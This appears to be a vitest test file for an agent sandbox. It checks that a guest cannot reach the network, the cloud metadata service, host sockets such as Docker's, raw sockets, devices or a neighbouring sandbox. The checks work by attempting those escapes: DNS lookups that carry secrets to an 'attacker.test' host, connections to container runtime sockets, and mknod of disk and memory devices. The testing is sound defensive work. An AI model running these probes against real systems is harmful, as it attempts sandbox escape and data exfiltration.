// Attempts from inside a bottle to reach the network, the host and another bottle, while the host listens on everything that an
// attacker would look for.
import { readdirSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ABSTRACT, AttackHost } from "../support/attack-host.ts";
import {
  type AttackWorld,
  type Mode,
  modesHere,
  openAttackWorld,
} from "../support/attack-world.ts";
import { requires } from "../support/requires.ts";

const BOTTLE = "agent_provider: { template: command, settings: { argv: [/bin/true] } }";
const NO_ROUTE = /^(ENETUNREACH|EHOSTUNREACH|EADDRNOTAVAIL|EINVAL|ECONNREFUSED)$/;

/** Kinds of sockets: family, type, protocol. */
// biome-ignore format: one attempt a line
const SOCKETS: readonly (readonly [ name: string, family: number, type: number, protocol: number, ])[] = [
  ["raw IPv4, ICMP", 2, 3, 1],
  ["raw IPv4, anything", 2, 3, 255],
  ["raw IPv6, ICMP", 10, 3, 58],
  ["ping", 2, 2, 1],
  ["ping over IPv6", 10, 2, 58],
  ["packet", 17, 3, 0x0300],
  ["packet datagram", 17, 2, 0x0300],
  ["vsock", 40, 1, 0],
  ["netlink audit", 16, 3, 9],
  ["netlink netfilter", 16, 3, 12],
  ["netlink kobject uevents", 16, 3, 15],
  ["netlink xfrm", 16, 3, 6],
  ["netlink connector", 16, 3, 11],
  ["kernel crypto", 38, 5, 0],
  ["bluetooth", 31, 3, 1],
  ["tipc", 30, 1, 0],
  ["can", 29, 3, 1],
  ["xdp", 44, 3, 0],
  ["rxrpc", 33, 2, 2],
  ["sctp", 2, 5, 132],
  ["dccp", 2, 6, 33],
  ["udplite", 2, 2, 136],
  ["mptcp", 2, 1, 262],
  ["key management", 15, 3, 2],
];

describe.each(modesHere())(
  "the neighbourhood of a guest of %s",
  requires("bwrap", "userns"),
  (mode: Mode) => {
    let host: AttackHost;
    let world: AttackWorld;
    beforeAll(async () => {
      host = await new AttackHost().open();
      world = await openAttackWorld({ mode, bottles: { one: BOTTLE, two: BOTTLE } });
      await world.ask("listen", { port: 18_080 }, 1);
      await world.ask("listen", { path: `\0${ABSTRACT}-two` }, 1);
      await world.ask("listen", { path: "/tmp/two.sock" }, 1);
      await world.ask("write", { path: "/dev/shm/two", text: "memory of two" }, 1);
      await world.ask("write", { path: "/home/node/workspace/two", text: "work of two" }, 1);
    });
    afterAll(async () => {
      await world?.[Symbol.asyncDispose]();
      await host?.[Symbol.asyncDispose]();
    });
    const outcome = async (op: string, options: object): Promise<string> =>
      (await world.ask(op, options)).outcome ?? "";
    const nobodyCame = (): void => expect(host.visits).toEqual([]);

    it("has a working door and nothing else to speak to", async () => {
      expect(await outcome("connect", { host: "127.0.0.1", port: 9099 })).toBe("connected");
      expect(await outcome("connect", { host: "egress", port: 9099 })).toBe("connected");
      expect(await outcome("connect", { path: "/run/bot-bottle/doors/proxy.sock" })).toBe(
        "connected",
      );
      expect(await outcome("list", { path: "/run/bot-bottle/doors" })).toBe("proxy.sock");
      expect(await outcome("connect", { path: "/run/bot-bottle/doors/init.sock" })).toBe("ENOENT");
      for (const port of [1, 22, 53, 80, 443, 2375, 3128, 8888, 9100, 9418, 9420]) {
        expect([port, await outcome("connect", { host: "127.0.0.1", port })]).toEqual([
          port,
          "ECONNREFUSED",
        ]);
      }
    });

    describe("the network", () => {
      it.each([
        ["a public address", "1.1.1.1"],
        ["a private one", "10.0.0.1"],
        ["a private one", "172.17.0.1"],
        ["a private one", "192.168.1.1"],
        ["the metadata service", "169.254.169.254"],
        ["a carrier's one", "100.64.0.1"],
        ["the network's own", "255.255.255.255"],
        ["a group", "224.0.0.251"],
        ["a public IPv6 address", "2606:4700:4700::1111"],
        ["a link-local one", "fe80::1"],
        ["a unique local one", "fd00::1"],
        ["the metadata service over IPv6", "fd00:ec2::254"],
        ["a mapped one", "::ffff:1.1.1.1"],
        ["a translated one", "64:ff9b::101:101"],
      ])("leads to nowhere: %s, %s", async (_name, address) => {
        const began = performance.now();
        for (const port of [443, 53, 22])
          expect(await outcome("connect", { host: address, port })).toMatch(NO_ROUTE);
        expect(await outcome("udp", { host: address, port: 53, data: "x" })).toMatch(
          /^(ENETUNREACH|EHOSTUNREACH|EADDRNOTAVAIL|EACCES|EINVAL)$/,
        );
        expect(performance.now() - began).toBeLessThan(1500);
      });

      it("asks no name of anybody", async () => {
        for (const name of [
          "example.com",
          "secret-in-a-label.attacker.test",
          "localhost.attacker.test",
        ]) {
          expect(await outcome("look", { name })).toMatch(/^(ENOTFOUND|EAI_AGAIN)$/);
        }
        for (const server of [
          "8.8.8.8",
          "1.1.1.1:53",
          "127.0.0.1",
          "127.0.0.53",
          "[2001:4860:4860::8888]",
        ]) {
          for (const type of ["A", "TXT"]) {
            expect(await outcome("look", { name: "data.attacker.test", server, type })).toMatch(
              /^(ECONNREFUSED|ETIMEOUT|ESERVFAIL|EREFUSED)$/,
            );
          }
        }
        const { stdout = "" } = await world.sh(
          "cat /etc/resolv.conf; getent hosts example.com; getent ahosts attacker.test",
        );
        expect(stdout).not.toMatch(/nameserver (?!127\.)|\d+\.\d+\.\d+\.\d+ .*STREAM/);
      });

      it("reaches no listener of the host, whatever it is bound to", async () => {
        const own = host.addresses.slice(0, 6);
        for (const port of [...host.ports]
          .filter(([name]) => name !== "udp")
          .map(([, number]) => number)) {
          for (const address of ["127.0.0.1", "127.0.0.2", "0.0.0.0", "::1", "::", ...own]) {
            expect([address, port, await outcome("connect", { host: address, port })]).toEqual([
              address,
              port,
              expect.stringMatching(NO_ROUTE),
            ]);
          }
        }
        for (const address of [
          "127.0.0.1",
          "127.255.255.255",
          ...own.filter((it) => !it.includes(":")),
        ]) {
          await outcome("udp", {
            host: address,
            port: host.ports.get("udp"),
            data: "from the guest",
          });
        }
        nobodyCame();
      });

      it("reaches no unix socket of the host, abstract or in a file", async () => {
        expect(await outcome("connect", { path: `\0${ABSTRACT}` })).toBe("ECONNREFUSED");
        expect(await outcome("connect", { path: join(host.directory, "host.sock") })).toBe(
          "ENOENT",
        );
        for (const path of [
          "/var/run/docker.sock",
          "/run/docker.sock",
          "/run/containerd/containerd.sock",
          "/run/systemd/private",
          "/run/dbus/system_bus_socket",
          "/tmp/.X11-unix/X0",
          "/run/user/0/bus",
          "/run/user/1000/bus",
        ]) {
          expect([path, await outcome("connect", { path })]).toEqual([path, "ENOENT"]);
        }
        nobodyCame();
      });

      it("cannot give itself an address, a route or an interface", async () => {
        const { stdout = "" } = await world.sh(
          "for c in 'ip link add d0 type dummy' 'ip addr add 10.9.8.7/24 dev lo' 'ip route add default dev lo' 'ip link set lo down' 'iptables -L' 'nft list ruleset' 'tc qdisc add dev lo root netem'; do $c 2>/dev/null && echo \"DONE $c\"; done; cat /proc/net/route /proc/net/ipv6_route /proc/net/if_inet6",
        );
        expect(stdout).not.toMatch(/DONE (?!iptables|nft)/);
        expect(
          stdout.split("\n").filter((line) => /\b(eth|en|wl|docker|br|tun|tap)\S*$/.test(line)),
        ).toEqual([]);
        expect(await outcome("connect", { host: "127.0.0.1", port: 9099 })).toBe("connected");
      });

      it.each(SOCKETS)("opens no socket: %s", requires("perl"), async (_name, ...numbers) => {
        const { stdout } = await world.run([
          "perl",
          "-e",
          `socket(my $s, ${numbers.join(",")}) and print "open"`,
        ]);
        expect(stdout).toBe("");
      });

      it("has no tunnel device, no ping, no packet capture", async () => {
        for (const path of [
          "/dev/net/tun",
          "/dev/kvm",
          "/dev/vhost-net",
          "/dev/vhost-vsock",
          "/dev/vsock",
          "/dev/fuse",
          "/dev/mem",
          "/dev/kmsg",
          "/dev/uinput",
          "/dev/sda",
          "/dev/vda",
          "/dev/loop0",
          "/dev/loop-control",
          "/dev/mapper/control",
          "/dev/rtc0",
          "/dev/bpf",
        ]) {
          expect([path, await outcome("read", { path })]).toEqual([path, "ENOENT"]);
        }
        expect(
          (await world.sh("ping -c 1 -W 1 127.0.0.1 || ping -c 1 -W 1 1.1.1.1")).code,
        ).not.toBe(0);
        expect(
          (
            await world.sh(
              "mknod /tmp/sda b 8 0 || mknod /tmp/mem c 1 1 || mknod /home/node/kmsg c 1 11",
            )
          ).code,
        ).not.toBe(0);
      });
    });

    describe("another bottle", () => {
      it("is not reached through its port, its sockets or its shared memory", async () => {
        expect((await world.ask("connect", { host: "127.0.0.1", port: 18_080 }, 1)).outcome).toBe(
          "connected",
        );
        expect((await world.ask("connect", { path: "/tmp/two.sock" }, 1)).outcome).toBe(
          "connected",
        );
        expect(await outcome("connect", { host: "127.0.0.1", port: 18_080 })).toBe("ECONNREFUSED");
        expect(await outcome("connect", { path: `\0${ABSTRACT}-two` })).toBe("ECONNREFUSED");
        expect(await outcome("connect", { path: "/tmp/two.sock" })).toBe("ENOENT");
        expect(await outcome("read", { path: "/dev/shm/two" })).toBe("ENOENT");
        expect(await outcome("list", { path: "/dev/shm" })).toBe("");
      });

      it("is not found in the file system: no door, no work, no log", async () => {
        const { run = "", state = "", workspace = "", audit = "" } = world.bottles[1] ?? {};
        for (const path of [join(run, "doors/proxy.sock"), join(run, "control.sock")]) {
          expect(await outcome("connect", { path })).toBe("ENOENT");
        }
        for (const path of [run, state, workspace, audit, world.home, world.root])
          expect(await outcome("read", { path })).toBe("ENOENT");
        const { stdout = "" } = await world.sh(
          "grep -rl 'work of two' /home /run /tmp /proc/*/cwd/ 2>/dev/null",
        );
        expect(stdout).toBe("");
      });

      it("shows no process, and none can be signalled, traced or read", async () => {
        const { stdout = "" } = await world.sh("ls /proc | grep -c '^[0-9]'; cat /proc/*/comm");
        expect(Number(stdout.split("\n")[0])).toBeLessThan(12);
        // Bottles of root have uids of their own, so even the kernel's own check would stop them.
        const probe = readdirSync("/proc")
          .filter((name) => /^\d+$/.test(name) && Number(name) > 4000)
          .slice(0, 40);
        const { stdout: signalled = "" } = await world.sh(
          `for p in ${probe.join(" ")}; do kill -0 $p 2>/dev/null && echo $p; done; true`,
        );
        const own = ((await world.sh("ls /proc | grep '^[0-9]'")).stdout ?? "").split("\n");
        expect(signalled.split("\n").filter((pid) => pid !== "" && !own.includes(pid))).toEqual([]);
      });

      it("has memory queues of its own", requires("perl"), async () => {
        const get = (flags: string): string[] => [
          "perl",
          "-e",
          `my $id = shmget(0x5eed, 4096, ${flags}); print defined $id ? "segment" : "none"`,
        ];
        expect((await world.run(get("0666 | 01000"), {}, 1)).stdout).toBe("segment");
        expect((await world.run(get("0666"))).stdout).toBe("none");
      });
    });

    it("has a host that heard nothing of all this", () => {
      nobodyCame();
      expect(readdirSync(join(world.bottles[0]?.run ?? "", "doors"))).toEqual(["proxy.sock"]);
    });
  },
);
